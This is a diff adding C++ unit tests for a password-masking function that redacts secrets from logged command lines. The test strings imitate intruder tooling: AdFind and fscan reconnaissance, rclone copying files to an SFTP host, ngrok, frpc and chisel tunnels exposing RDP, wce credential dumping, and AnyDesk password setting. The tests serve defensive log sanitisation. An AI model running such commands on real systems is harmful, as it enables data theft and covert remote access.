@@ -156,6 +156,69 @@ TEST(Passwords, LeavesCommandsWhole) {
     EXPECT_EQ(without_passwords(text), text);
 }
 
+TEST(Passwords, OfSingleTools) {
+  for (const char* line : {"AdFind.exe -h dc1 -u CORP\\adm -up @ -f objectcategory=computer",
+                           "a.exe -u CORP\\adm -up @ -f x",
+                           "fscan -h 10.0.0.0/24 -user adm -pwda @ -nopoc",
+                           "curl -H \"Authorization: Bearer @\" https://h/x",
+                           "curl -H 'authorization: Basic @' https://h/x",
+                           "curl -H \"X-Api-Key: @\" https://h/x",
+                           "curl -H X-Api-Key:@ https://h/x",
+                           "curl \"https://h/x?token=@&b=1\"",
+                           "curl https://h/x?a=b&api_key=@ -o y",
+                           "rclone copy C:\\x r: --sftp-host h --sftp-pass @ --transfers 4",
+                           "rclone copy C:\\x r: --sftp-pass=@",
+                           "rclone copy C:\\x :sftp,host=h,user=u,pass=@:dir",
+                           "rclone copy C:\\x \":sftp,host=h,pass=@,user=u:dir\"",
+                           "ngrok authtoken @",
+                           "ngrok.exe config add-authtoken @",
+                           "ngrok tcp 3389 --authtoken @",
+                           "ngrok tcp 3389 --authtoken=@",
+                           "frpc.exe tcp -s 203.0.113.7:7000 -t @ -l 3389",
+                           "svc.exe tcp -s 203.0.113.7:7000 -t @ -l 3389",
+                           "chisel client --auth u:@ https://h R:socks",
+                           "chisel server --auth=u:@",
+                           "cmd /c \"AdFind -u a -up @\"",
+                           "wce.exe -s adm:CORP:@",
+                           "cmd /c echo @ | C:\\ProgramData\\anydesk.exe --set-password",
+                           "It ran: ngrok authtoken @"}) {
+    std::string text = line;
+    expect_left_out(text);
+    const std::size_t at = text.find('@');
+    text.replace(at, 1, kSecret);
+    const std::string once = without_passwords(text);
+    EXPECT_EQ(without_passwords(once), once);
+  }
+  for (const char* line : {"$p=\"k1\"; rar.exe a \"-p$p\" x.rar", "$p = 'k1'; 7z a -p$p x.7z",
+                           "$k='k1'; x.exe -pw $k", "cmd /c \"$p = 'k1'; r a -hp$p x.rar\""}) {
+    const std::string shown = without_passwords(line);
+    EXPECT_EQ(shown.find("k1"), std::string::npos) << shown;
+    EXPECT_EQ(without_passwords(shown), shown);
+  }
+  const std::string hash(32, 'a'), left{kPasswordLeftOut};
+  // Another masked the command before.
+  EXPECT_EQ(without_passwords("$d=\"C:\\x\"; $p=\"k1\"; 7z a -p" + left + " a.7z $d"),
+            "$d=\"C:\\x\"; $p=\"" + left + "\"; 7z a -p" + left + " a.7z $d");
+  EXPECT_EQ(without_passwords("wce.exe -s adm:CORP:" + hash + ":" + hash),
+            "wce.exe -s adm:CORP:" + left);
+  EXPECT_EQ(without_passwords("iwr h -Headers @{\"X-Key\"=\"k1\"; Authorization=\"Basic k2\"}"),
+            "iwr h -Headers @{\"X-Key\"=\"" + left + "\"; Authorization=\"Basic " + left + "\"}");
+}
+
+TEST(Passwords, OfSingleToolsLeavesOtherTextAlone) {
+  const std::string hash(32, 'a');
+  for (const std::string& text : std::vector<std::string>{
+           "AdFind.exe -f objectcategory=computer -csv name", "docker compose -f x up",
+           "docker-compose -up x", "fscan -h 10.0.0.0/24",
+           "curl -H \"Accept: text/html\" https://h/x?page=2&id=7", "curl https://h/key/token/x",
+           "rclone copy C:\\x r: --transfers 4 --ask-password x", "ngrok tcp 3389",
+           "chisel client https://h R:socks", "x.exe -t 5", "ping -t h", "$p=\"C:\\x\"; dir $p",
+           "MD5=" + hash + ",SHA1=" + hash, "HKLM\\SOFTWARE\\X-Key: value"})
+    EXPECT_EQ(without_passwords(text), text);
+  EXPECT_FALSE(without_passwords(std::string(200'000, ':')).empty());
+  EXPECT_FALSE(without_passwords(std::string(200'000, '$')).empty());
+}
+
 TEST(Passwords, OfLongTextsInTime) {
   std::string text = "psexec ";
   while (text.size() < 200'000) text += "\"a -p \\\" b=";
